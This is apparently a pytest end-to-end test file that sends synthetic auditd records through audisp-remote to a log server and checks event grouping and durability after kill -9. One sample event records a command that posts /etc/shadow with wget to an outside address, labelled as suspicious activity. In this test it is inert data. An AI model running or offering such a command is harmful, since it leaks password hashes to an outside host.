"""auditd's audisp-remote against a real `norrvakt serve` (parse workers and the listener in
them, the default): Debian's /sbin/audisp-remote with ``format = ascii`` and ``format = managed``
reads audit records on its standard input, as auditd's plugin dispatcher feeds it, and sends
them to the audisp source; the records of each event are stored as one event. Then kill -9 of
the server in the middle of a managed stream sent by hand: nothing acknowledged is lost.

audisp-remote reads only /etc/audit/audisp-remote.conf, so each run bind-mounts a private
config over it in a mount namespace of its own (``unshare -m``; needs root, as CI has).
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from norrvakt.sources.audisp_wire import HEADER_SIZE, TYPE_ACK, pack_message, unpack_header
from tests.e2e.harness import Server, free_ports
from tests.e2e.test_durability import _ids_stored

AUDISP_REMOTE = Path("/sbin/audisp-remote")

pytestmark = pytest.mark.skipif(
    not AUDISP_REMOTE.exists() or shutil.which("unshare") is None,
    reason="audisp-remote (Debian audispd-plugins) or unshare is not installed",
)


def _server(tmp: Path) -> Server:
    u, t, s, r, h, a = free_ports(6)
    extra = f"""
[[sources]]
id = "audisp"
type = "audisp"
host = "127.0.0.1"
port = {a}
tenant = "lulea"
"""
    server = Server(tmp / "data", h, {"udp": u, "tcp": t, "tls": s, "relp": r, "audisp": a}, extra_toml=extra)
    server.data_dir.mkdir(parents=True)
    return server


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    srv = _server(Path(tmp_path_factory.mktemp("audisp")))
    srv.start()
    try:
        yield srv
    finally:
        srv.stop()


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def _event_lines(serial: int, run: str, argv: list[str], key: str = "(null)") -> list[str]:
    head = f"msg=audit(1764680000.{serial % 1000:03d}:{serial}):"
    exe = f"/usr/bin/{argv[0]}"
    args = " ".join(f"a{i}={_hex(a)}" if " " in a else f'a{i}="{a}"' for i, a in enumerate(argv))
    return [
        f"node=web1 type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 "
        f"a3=0 items=2 ppid=900 pid={4000 + serial} auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 "
        f'comm="{argv[0]}" '
        f'exe="{exe}" key={key}\x1dARCH=x86_64 SYSCALL=execve AUID="anna" UID="root"',
        f"node=web1 type=EXECVE {head} argc={len(argv)} {args}",
        f'node=web1 type=CWD {head} cwd="/home/anna"',
        f'node=web1 type=PATH {head} item=0 name="{exe}" inode=10 dev=08:01 mode=0100755 nametype=NORMAL',
        f"node=web1 type=PROCTITLE {head} proctitle={_hex(chr(0).join(argv))}",
        f"node=web1 type=EOE {head} ",
    ]


def _conf(tmp: Path, port: int, fmt: str) -> Path:
    conf = tmp / f"audisp-remote-{fmt}.conf"
    conf.write_text(
        f"""remote_server = 127.0.0.1
port = {port}
transport = tcp
mode = immediate
format = {fmt}
queue_depth = 2048
network_retry_time = 1
max_tries_per_record = 5
max_time_per_record = 10
heartbeat_timeout = 0
network_failure_action = syslog
remote_ending_action = reconnect
startup_failure_action = warn_once_continue
"""
    )
    conf.chmod(0o640)
    return conf


def _run_audisp_remote(conf: Path, lines: list[str], server: Server, q: str, expected: int) -> int:
    """audisp-remote fed ``lines`` on stdin (kept open until the events are stored: it exits at
    the end of its input, and in ascii format does so without waiting for anything)."""
    cmd = [
        "unshare",
        "-m",
        "sh",
        "-c",
        f"mount --bind {conf} /etc/audit/audisp-remote.conf && exec {AUDISP_REMOTE}",
    ]
    proc = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    assert proc.stdin is not None
    try:
        proc.stdin.write(("\n".join(lines) + "\n").encode())
        proc.stdin.flush()
        got = server.wait_count(q, expected, timeout=60)
    finally:
        proc.stdin.close()
        try:
            proc.wait(15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(5)
    if proc.returncode not in (0, None) and got != expected:
        out = proc.stdout.read().decode(errors="replace") if proc.stdout else ""
        pytest.fail(f"audisp-remote exited with {proc.returncode}: {out}")
    return got


@pytest.mark.parametrize("fmt", ["ascii", "managed"])
def test_audisp_remote_events_are_stored_as_one_event_each(server: Server, tmp_path: Path, fmt: str) -> None:
    run = uuid.uuid4().hex[:10]
    lines: list[str] = []
    for i in range(20):
        argv = (
            ["wget", f"--post-file=/etc/shadow-{run}-{i}", "http://192.0.2.99/up"]
            if i == 7
            else ["echo", run, str(i)]
        )
        lines += _event_lines(100 + i, run, argv, '"susp_activity"' if i == 7 else "(null)")
    conf = _conf(tmp_path, server.ports["audisp"], fmt)
    assert _run_audisp_remote(conf, lines, server, run, 20) == 20
    rows = {r["ecs"]["process.pid"]: r for r in server.search(run)["rows"]}
    assert len(rows) == 20  # five records (EOE is not forwarded) each, one event
    wget = rows["4107"]
    assert wget["ecs"]["process.command_line"] == f"wget --post-file=/etc/shadow-{run}-7 http://192.0.2.99/up"
    assert wget["ecs"]["user.name"] == "anna" and wget["ecs"]["host.name"] == "web1"
    assert wget["fields"]["auditd.types"] == "SYSCALL EXECVE CWD PATH PROCTITLE"
    assert (
        wget["fields"]["EXECVE.a1"] == f"--post-file=/etc/shadow-{run}-7"
        and wget["fields"]["key"] == "susp_activity"
    )
    assert wget["tenant"] == "lulea" and wget["source"] == "audisp"
    assert server.count(f'EXECVE.a0:wget "{run}"') == 1  # the per-record fields are searchable


class ManagedSender(threading.Thread):
    """audisp-remote's managed format by hand, so that the test knows which records were
    acknowledged (audisp-remote does not say): one record in flight, as audisp-remote sends."""

    def __init__(self, port: int, run: str, base: int) -> None:
        super().__init__(daemon=True)
        self.port, self.run_id, self.base = port, run, base
        self.stop = threading.Event()
        self.acked: list[str] = []  # event ids whose every record was acknowledged

    def run(self) -> None:
        seq = 1
        try:
            with socket.create_connection(("127.0.0.1", self.port), timeout=10) as sock:
                i = 0
                while not self.stop.is_set():
                    for line in _event_lines(
                        self.base + i, self.run_id, ["echo", "durability", self.run_id, f"{self.base + i}"]
                    )[:-1]:
                        seq += 1
                        sock.sendall(pack_message(seq, line.encode() + b"\n"))
                        head = b""
                        while len(head) < HEADER_SIZE:
                            more = sock.recv(HEADER_SIZE - len(head))
                            if not more:
                                return
                            head += more
                        h = unpack_header(head)
                        if h.type != TYPE_ACK or h.sequence != seq:
                            return
                    self.acked.append(str(self.base + i))
                    i += 1
        except OSError:
            return  # the server died


def test_kill_9_mid_managed_stream_loses_nothing_acknowledged(server: Server) -> None:
    # (last in the module: it kills the module's node and starts it again)
    run = uuid.uuid4().hex[:10]
    senders = [ManagedSender(server.ports["audisp"], run, base) for base in (10_000, 20_000)]
    for s in senders:
        s.start()
    time.sleep(3.0)
    server.kill9()
    for s in senders:
        s.stop.set()
        s.join(15)
    acked = [i for s in senders for i in s.acked]
    assert len(acked) > 20, len(acked)
    server.start()  # journals the spool of the open events the killed workers had acknowledged
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        stats = server.api("GET", "/api/stats").json()
        if stats["indexer"]["backlog"] == 0 and stats["journal"]["backlog"]["parsing_batches"] == 0:
            break
        time.sleep(0.5)
    seen = _ids_stored(server, run)
    missing = [i for i in acked if seen[i] == 0]
    assert missing == [], f"{len(missing)} acknowledged events lost, e.g. {missing[:5]}"
    # At least once, not exactly once: an event journaled just before the kill whose spool
    # file was not yet removed is journaled again from the spool (docs/sources.md).
    twice = [i for i, n in seen.items() if n > 1]
    print(f"audisp kill -9: {len(acked)} events acknowledged, {len(seen)} stored, {len(twice)} twice")
    assert len(twice) <= max(4, len(acked) // 20), f"{len(twice)} events stored twice: {twice[:10]}"
    assert list((server.data_dir / "spool" / "audisp").glob("*.spool")) == []
